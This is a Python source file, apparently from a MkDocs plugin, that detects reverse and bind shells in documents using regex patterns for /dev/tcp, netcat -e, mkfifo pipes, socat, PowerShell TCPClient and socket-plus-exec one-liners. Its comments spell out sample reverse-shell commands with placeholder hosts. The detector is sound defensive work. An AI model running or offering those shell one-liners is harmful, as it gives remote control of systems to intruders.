"""Reverse and bind shells: /dev/tcp redirections, netcat -e, mkfifo+nc, socat exec,
PowerShell TCPClient loops, scripting-language socket+exec one-liners."""

from __future__ import annotations

from collections.abc import Iterator

from mkdocs_threatpub.core.i18n import t
from mkdocs_threatpub.core.lazy import lazy_re2
from mkdocs_threatpub.scanners.base import Hit, hit
from mkdocs_threatpub.scanners.document import Document

_PATTERNS = [
    # bash -i >& /dev/tcp/HOST/PORT 0>&1  (also /dev/udp)
    (
        lazy_re2(r"(?i)/dev/(?:tcp|udp)/[^\s/]{1,255}/\d{1,5}"),
        t("reverse shell (/dev/tcp redirection)", "反弹 Shell（/dev/tcp 重定向）"),
    ),
    # nc -e /bin/sh HOST PORT ; ncat --exec ; nc -c bash
    (
        lazy_re2(
            r"(?i)\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;]{0,80}\s(?:-e|-c|--exec|--sh-exec)\s{1,5}[^\s]{0,80}(?:sh|bash|cmd|powershell)"
        ),
        t("reverse or bind shell (netcat exec)", "反弹或绑定 Shell（netcat 执行命令）"),
    ),
    # mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f
    (
        lazy_re2(
            r"(?i)mkfifo\s[^\n]{0,200}\|\s{0,5}(?:/bin/)?(?:ba|z|da)?sh\b[^\n]{0,120}\|\s{0,5}(?:nc|ncat|netcat|telnet|openssl)\b"
        ),
        t("reverse shell (mkfifo pipe)", "反弹 Shell（mkfifo 管道）"),
    ),
    # socat exec:'bash -li',pty,stderr tcp:HOST:PORT
    (
        lazy_re2(
            r"(?i)socat\b[^\n]{0,200}\b(?:exec|system):[^\n]{0,200}\btcp(?:4|6)?(?:-listen)?:"
        ),
        t("reverse or bind shell (socat exec)", "反弹或绑定 Shell（socat 执行命令）"),
    ),
    (
        lazy_re2(
            r"(?i)socat\b[^\n]{0,200}\btcp(?:4|6)?(?:-listen)?:[^\n]{0,200}\b(?:exec|system):"
        ),
        t("reverse or bind shell (socat exec)", "反弹或绑定 Shell（socat 执行命令）"),
    ),
    # PowerShell: New-Object System.Net.Sockets.TCPClient(...) ... iex / Invoke-Expression
    (
        lazy_re2(
            r"(?is)Net\.Sockets\.TCPClient\s{0,5}\([^\n]{0,400}(?:iex|Invoke-Expression|\.Write\()"
        ),
        t("reverse shell (PowerShell TCPClient)", "反弹 Shell（PowerShell TCPClient）"),
    ),
    # python/perl/ruby/php socket + dup2/exec/subprocess
    (
        lazy_re2(r"(?i)socket\.socket\([^\n]{0,400}(?:os\.dup2|subprocess\.call|pty\.spawn)"),
        t("reverse shell (Python socket and dup2)", "反弹 Shell（Python socket 与 dup2）"),
    ),
    (
        lazy_re2(r"(?i)\buse\s+socket\b[^\n]{0,400}\bexec\s{0,5}\(\s{0,5}\"?/bin/(?:ba)?sh"),
        t("reverse shell (Perl socket and exec)", "反弹 Shell（Perl socket 与 exec）"),
    ),
    (
        lazy_re2(
            r"(?i)fsockopen\s{0,5}\([^\n]{0,200}(?:exec|shell_exec|system|passthru|proc_open|popen)\s{0,5}\("
        ),
        t("reverse shell (PHP fsockopen and exec)", "反弹 Shell（PHP fsockopen 与 exec）"),
    ),
    (
        lazy_re2(
            r"(?i)TCPSocket\.(?:new|open)\s{0,5}\([^\n]{0,300}(?:exec|spawn|IO\.popen|\bsh\b)"
        ),
        t("reverse shell (Ruby TCPSocket and exec)", "反弹 Shell（Ruby TCPSocket 与 exec）"),
    ),
    # Java/Groovy: Runtime exec of bash -c with /dev/tcp handled by the first pattern;
    # ProcessBuilder with a socket
    (
        lazy_re2(
            r"(?i)new\s+Socket\s{0,5}\([^\n]{0,300}ProcessBuilder|ProcessBuilder[^\n]{0,300}new\s+Socket\s{0,5}\("
        ),
        t(
            "reverse shell (Java socket and ProcessBuilder)",
            "反弹 Shell（Java Socket 与 ProcessBuilder）",
        ),
    ),
]

# A literal every match of the pattern at the same index contains (lower case).
_GATES = (
    "/dev/",
    "-",
    "mkfifo",
    "socat",
    "socat",
    "tcpclient",
    "socket.socket",
    "socket",
    "fsockopen",
    "tcpsocket",
    "socket",
)


class ReverseShell:
    name = "reverse-shell"
    rule = "CAC402"
    keywords: tuple[str, ...] = (
        "/dev/tcp",
        "/dev/udp",
        "nc ",
        "ncat",
        "netcat",
        "mkfifo",
        "socat",
        "tcpclient",
        "socket",
        "fsockopen",
        "tcpsocket",
    )

    def scan(self, doc: Document) -> Iterator[Hit]:
        for view in doc.views:
            text = view.text
            lowered = text.lower()
            for (pattern, what), gate in zip(_PATTERNS, _GATES, strict=True):
                # Each pattern runs only where its own literal occurs: most views have none.
                if gate not in lowered:
                    continue
                for match in pattern.finditer(text):
                    yield hit(self, view, match.start(), what, match.group(0))


DETECTOR = ReverseShell()
